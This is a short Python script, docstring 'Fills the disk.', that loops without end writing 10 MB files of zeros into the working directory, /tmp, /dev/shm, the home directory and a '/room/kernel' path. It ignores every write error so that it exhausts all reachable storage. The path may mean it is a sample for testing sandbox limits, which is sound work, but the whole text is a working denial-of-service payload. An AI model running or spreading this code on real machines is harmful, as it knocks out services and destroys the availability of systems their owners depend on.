"""Fills the disk."""

import itertools
import os

for number in itertools.count():
    for folder in ('.', '/tmp', '/dev/shm', os.path.expanduser('~'), '/room/kernel'):
        try:
            with open(f'{folder}/{number}', 'wb') as file:
                file.write(bytes(10_000_000))
        except OSError:
            pass
